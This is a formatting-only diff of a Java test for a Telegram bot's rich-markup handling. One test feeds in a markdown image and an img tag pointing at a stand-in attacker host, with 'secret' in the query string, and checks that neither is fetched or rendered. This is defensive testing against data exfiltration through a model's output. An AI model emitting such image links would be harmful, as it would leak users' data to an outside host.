@@ -82,18 +82,20 @@ class RichMarkupTest {
 
     @Test
     void imagesAndHtmlOfAModelAreNeitherFetchedNorButtons() {
-        String text = "# h\n\n![chart](https://evil.example/?q=secret)\n\n<tg-button url=\"x\">go</tg-button> now<br>\n\n"
-                + "<img src=\"https://evil.example\">\n";
+        String text =
+                "# h\n\n![chart](https://evil.example/?q=secret)\n\n<tg-button url=\"x\">go</tg-button> now<br>\n\n"
+                        + "<img src=\"https://evil.example\">\n";
         assertEquals(
-                Optional.of("# h\n\n[chart](https://evil.example/?q=secret)\n\n\\<tg-button url=\"x\">go\\</tg-button> now<br>\n\n"
-                        + "\\<img src=\"https://evil.example\">\n"),
+                Optional.of(
+                        "# h\n\n[chart](https://evil.example/?q=secret)\n\n\\<tg-button url=\"x\">go\\</tg-button> now<br>\n\n"
+                                + "\\<img src=\"https://evil.example\">\n"),
                 rich(text));
     }
 
     @Test
     void theFallbackOfARichMessageIsTheFirstPieceOfToday() {
-        Piece.Words words = RichMarkup.of(TABLE, MarkupPieces.of(TABLE, TelegramBot.MARKUP))
-                .orElseThrow();
+        Piece.Words words =
+                RichMarkup.of(TABLE, MarkupPieces.of(TABLE, TelegramBot.MARKUP)).orElseThrow();
         assertTrue(RichMarkup.isRich(words));
         assertTrue(words.plain().contains("04:10"));
         assertTrue(MarkupPieces.of("<rich>", TelegramBot.MARKUP).stream()
